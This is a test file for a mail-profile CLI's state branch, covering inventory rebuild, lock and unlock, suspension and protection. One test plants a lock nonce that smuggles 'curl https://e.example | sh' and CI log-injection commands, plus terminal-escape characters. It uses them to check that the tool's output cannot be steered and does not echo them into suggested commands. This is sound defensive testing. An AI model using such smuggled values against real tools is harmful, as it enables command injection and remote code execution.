/** The verbs around the state branch as an admin uses them: a lost inventory, a lock, a stop, and a protection. */

import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { machineClock } from '../../src/cli/wiring/machine.ts';
import { openStateStore } from '../../src/io/git/state/store.ts';
import { STEAL_GRACE_SECONDS, stealableFrom } from '../../src/model/state/lock.ts';
import { type CommandLine, PATIENT, useAppliedCommandLine } from './command-line.ts';

const NO_BRANCH = 'there is no state branch yet: the first apply makes it\n';

/** Somebody else's run holds the lock. */
async function hold({ root }: CommandLine, who = 'ci run 17', ownNonce?: string) {
  const clock = machineClock;
  const place = { root, repo: '.postilion/state.git', branch: 'postilion-state', clock };
  const store = openStateStore(ownNonce === undefined ? place : { ...place, nonce: () => ownNonce });
  const wish = { who, run: null, commit: null, seconds: 900 };
  const reading = await store.read();
  const answer = await store.acquireLock(wish, {}, reading.status === 'found' ? reading.state.revision : null);
  await store.close();
  if (answer.status !== 'locked') throw new Error(JSON.stringify(answer));
  const { expires, nonce } = answer.lease;
  const holder = { ...wish, nonce, acquired: expires, expires };
  return { nonce, expires, from: stealableFrom(holder, STEAL_GRACE_SECONDS) };
}

test.concurrent(
  'a lost inventory is proposed from markers, a held lock is told and opened',
  PATIENT,
  async (context) => {
    const bench = await useAppliedCommandLine(context);
    rmSync(join(bench.root, '.postilion', 'state.git'), { recursive: true });
    expect(await bench.run(['state', 'show'])).toEqual({ code: 0, out: NO_BRANCH, err: '' });
    const proposed = await bench.run(['state', 'rebuild']);
    expect(proposed.code).toBe(0);
    expect(proposed.out.match(/protected, never applied \(by its marker\)/g)).toHaveLength(3);
    expect(proposed.out).toMatch(/nothing was written: add --yes to make this the inventory\n$/);

    const written = await bench.run(['state', 'rebuild', '--yes']);
    expect([written.code, written.out.split('\n').at(-2)]).toEqual([0, 'written: this is the inventory now']);
    expect((await bench.run(['state', 'show'])).out.match(/, protected, never applied$/gm)).toHaveLength(3);
    expect((await bench.run(['apply'])).code).toBe(0);
    expect(await bench.server.writes()).toEqual([]);

    const { nonce, expires, from } = await hold(bench);
    const words = `ci run 17 holds the lock until ${expires}, and from ${from} on the next run takes it over`;
    const shown = await bench.run(['state', 'show']);
    expect(shown.out).toContain(
      `lock: ${words}; open it with "postilion state unlock ${nonce}" when that run is dead\n`,
    );
    expect(shown.out.match(/^ios-\w+: ios-mail [0-9a-f-]{36}, protected, applied 2/gm)).toHaveLength(3);
    const rebuilt = await bench.run(['state', 'rebuild', '--yes']);
    expect([rebuilt.code, rebuilt.err]).toEqual([6, expect.stringContaining(`nothing was written: ${words}`)]);
    expect(rebuilt.out.match(/applied \S+ \(kept\)/g)).toHaveLength(3);
    bench.change('profiles/it.yaml', 'Mail - IT', 'Mail - IT staff');
    const applied = await bench.run(['apply'], { COLUMNS: '400' });
    expect(applied.code).toBe(6);
    expect(applied.out).toContain(
      `. not begun: change ios-it — ${words}: wait, or open it with "postilion state unlock ${nonce}"`,
    );
    const other = await bench.run(['state', 'unlock', 'nope']);
    expect([other.code, other.err]).toEqual([
      6,
      expect.stringContaining(`"nope" is not the word of this lock: ${words}`),
    ]);
    const bare = await bench.run(['state', 'unlock']);
    expect([bare.code, bare.err]).toEqual([
      6,
      expect.stringContaining(`open it with "postilion state unlock ${nonce}"`),
    ]);
    expect(await bench.run(['state', 'unlock', nonce])).toMatchObject({ code: 0, out: 'the lock is open\n' });
    expect(await bench.run(['state', 'unlock', nonce])).toMatchObject({ code: 0, out: 'nobody holds the lock\n' });
    expect(await bench.run(['state', 'unlock'])).toMatchObject({ code: 0, out: 'nobody holds the lock\n' });
  },
);

/** What somebody who may write to the state branch could have others read and paste. */
const HOSTILE = 'ci\n::error::x\r\u001b[31m\u202e ##[error]y ##vso[task.setvariable]z';
const HOSTILE_NONCE = 'x"; curl https://e.example | sh #\n::set-output name=a::b';
const STEERING = /[^\P{Cc}\n]|[\p{Cf}\p{Zl}\p{Zp}]|^\s*::|##\[|##vso\[/mu;

test.concurrent('what the state branch holds steers no terminal and stands in no command', PATIENT, async (context) => {
  const bench = await useAppliedCommandLine(context);
  expect((await bench.run(['state', 'rebuild', '--yes'])).code).toBe(0);
  await hold(bench, HOSTILE, HOSTILE_NONCE);
  bench.change('profiles/it.yaml', 'Mail - IT', 'Mail - IT staff');
  const commands = [
    ['state', 'show'],
    ['state', 'show', '--format', 'json'],
    ['state', 'unlock', 'other'],
    ['state', 'rebuild', '--yes'],
    ['apply'],
    ['apply', '--format', 'json'],
  ];
  for (const command of commands) {
    const { code, out, err } = await bench.run(command, { COLUMNS: '400' });
    expect(code).toBe(command[1] === 'show' ? 0 : 6);
    const said = `${out}${err}`;
    expect(said).toMatch(/vso/);
    expect(said).not.toMatch(STEERING);
    expect(said).not.toContain('state unlock x');
  }
});

test.concurrent('a suspended tenant is not even read; a suspended profile waits alone', PATIENT, async (context) => {
  const bench = await useAppliedCommandLine(context);
  bench.change('profiles/it.yaml', 'Mail - IT', 'Mail - IT staff');
  bench.change('profiles/legal.yaml', 'Mail - Legal', 'Mail - Lawyers');
  bench.change('postilion.yaml', 'version: 1', 'version: 1\nsuspend: true');
  const text = 'this tenant is suspended in postilion.yaml: nothing was read or written\n';
  expect(await bench.run(['reconcile', '--detailed-exitcode'])).toEqual({ code: 0, out: text, err: '' });
  expect(await bench.server.asked()).toEqual([]);
  const applied = await bench.run(['apply', '--approve', 'lock-out:ios-it,ios-legal']);
  expect(applied.code).toBe(3);
  expect(applied.out).toContain('waits: the profile is suspended in postilion.yaml');
  expect(applied.out).toContain('take the suspension of ios-it out of postilion.yaml');

  bench.change('postilion.yaml', 'suspend: true', 'suspend: [ios-it]');
  expect(await bench.written()).toEqual([]);
  // The suspension was in force, so lifting it has a code of its own.
  const { out } = await bench.run(['plan', '--format', 'json']);
  const code = /"policyChanges"[^\]]*"code": ?"([0-9a-f]{16}-\w+)"/s.exec(
    out.replace(/"(letsThrough|gates)": ?\[[^\]]*\],?/g, ''),
  )?.[1];
  expect((await bench.run(['reconcile'])).code).toBe(0);
  expect(await bench.written()).toEqual([]);
  expect((await bench.run(['reconcile', '--detailed-exitcode', '--approve', code ?? 'none'])).code).toBe(3);
  expect(await bench.written()).toHaveLength(1);

  bench.change('postilion.yaml', 'suspend: [ios-it]', 'suspend: [ios-itt]');
  const mistyped = await bench.run(['reconcile'], { COLUMNS: '400' });
  expect(mistyped.code).toBe(4);
  expect(mistyped.out).toContain(
    '"suspend" in postilion.yaml names "ios-itt", which no profile has: did you mean "ios-it"?',
  );
  expect(await bench.written()).toEqual([]);
});

test.concurrent('a protection outlives its YAML, and no approval lifts it', PATIENT, async (context) => {
  const bench = await useAppliedCommandLine(context);
  bench.change('profiles/legal.yaml', 'key: ios-legal', 'key: ios-legal\nprotect: true');
  expect((await bench.run(['apply'])).code).toBe(0);
  expect((await bench.run(['state', 'show'])).out).toMatch(/^ios-legal: .*, protected, applied /m);
  const file = join(bench.root, 'profiles', 'legal.yaml');
  rmSync(file);
  const refused = await bench.run(['apply', '--approve', 'lock-out:ios-legal']);
  expect(refused.code).toBe(3);
  expect(refused.out).toContain('approved by lock-out:ios-legal: it disturbs people who have mail');
  expect(refused.out).toContain('waits: the profile is protected');
  expect(refused.out).toContain('set protect: false for ios-legal in a change of its own first');
  expect(await bench.server.writes()).toEqual([]);
});
